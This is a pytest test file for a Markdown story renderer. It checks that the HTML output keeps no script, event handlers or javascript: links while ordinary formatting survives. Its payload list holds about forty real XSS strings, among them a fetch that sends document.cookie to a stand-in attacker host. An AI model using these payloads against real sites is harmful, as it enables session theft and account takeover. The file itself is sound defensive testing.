"""A maker's story is Markdown; what reaches a page is HTML with nothing that runs."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from campaigns.story import render_story, sanitise_html

# Real payloads, from the OWASP XSS filter evasion cheat sheet and PortSwigger's XSS cheat sheet.
PAYLOADS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert('XSS')>",
    "<iframe src=\"javascript:alert('XSS');\"></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=\"javascript:alert('XSS')\"></object>",
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="  javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(document.domain))",
    "[click](javascript&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "[a](<javascript:alert(1)>)",
    "<details open ontoggle=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'XSS\');">',
    "<base href=\"javascript:alert('XSS');//\">",
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<a href="#" onclick="alert(1)">x</a>',
    '<p title="</p><script>alert(1)</script>">x</p>',
]

DANGEROUS_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "style",
    "svg",
    "math",
    "form",
    "input",
    "button",
    "meta",
    "base",
}


class Elements(HTMLParser):
    """Every element and attribute a browser would build from the HTML."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_runs_survives(payload: str) -> None:
    for markdown in (payload, f"Intro paragraph.\n\n{payload}\n\nOutro.", f"- item {payload}"):
        html = render_story(markdown)
        for tag, attrs in Elements(html).found:
            assert tag not in DANGEROUS_TAGS, html
            for name, value in attrs:
                assert not name.startswith("on") and name not in {"style", "srcdoc", "formaction"}, html
                scheme = re.sub(r"[\x00-\x20]", "", value or "").lower()
                assert not scheme.startswith(("javascript:", "vbscript:", "data:")), html
        # Whatever is left of the payload is text the browser shows, never markup it runs.
        assert "<script" not in html.lower() and "javascript:alert" not in re.sub(r"&lt;.*?&gt;", "", html).lower()


def test_script_content_goes_with_the_tag() -> None:
    assert render_story("before\n\n<script>steal()</script>\n\nafter") == "<p>before</p>\n\n<p>after</p>\n"


def test_headings_lists_links_images_and_code_survive() -> None:
    html = render_story(
        "# The sensor\n\n"
        "## Why\n\n"
        "- cheap\n- **open** and *simple*\n\n"
        "1. solder\n2. flash\n\n"
        '[Our site](https://example.com/sensor "Sensor") and <mailto:team@example.com>\n\n'
        "![The board](https://example.com/board.jpg)\n\n"
        "Inline `code` and a block:\n\n"
        "```python\nprint('hello')\n```\n\n"
        "> quoted\n\n"
        "| part | cost |\n|---|---|\n| MCU | 5 |\n"
    )
    assert "<h1>The sensor</h1>" in html and "<h2>Why</h2>" in html
    assert "<ul>\n<li>cheap</li>\n<li><strong>open</strong> and <em>simple</em></li>\n</ul>" in html
    assert "<ol>\n<li>solder</li>" in html
    assert (
        '<a href="https://example.com/sensor" title="Sensor" rel="noopener noreferrer nofollow ugc">Our site</a>'
        in html
    )
    assert '<a href="mailto:team@example.com"' in html
    assert '<img src="https://example.com/board.jpg" alt="The board">' in html
    assert "<code>code</code>" in html
    assert "<pre><code class=\"language-python\">print('hello')\n</code></pre>" in html
    assert "<blockquote>" in html and "<table>" in html and "<td>MCU</td>" in html


def test_chinese_stories_render() -> None:
    assert (
        render_story("## 众人拾柴火焰高\n\n**智能**花盆")
        == "<h2>众人拾柴火焰高</h2>\n<p><strong>智能</strong>花盆</p>\n"
    )


def test_code_shows_markup_as_text() -> None:
    html = render_story("`<script>alert(1)</script>`")
    assert html == "<p><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></p>\n"


def test_a_code_class_cannot_smuggle_attributes() -> None:
    html = render_story('```x" onmouseover="alert(1)\ncode\n```')
    assert "onmouseover" not in html and "<pre><code>code\n</code></pre>" in html


def test_an_empty_story_is_empty() -> None:
    assert render_story("") == "" and render_story("   \n") == ""


def test_sanitising_is_stable() -> None:
    for payload in PAYLOADS:
        once = render_story(payload)
        assert sanitise_html(once) == once
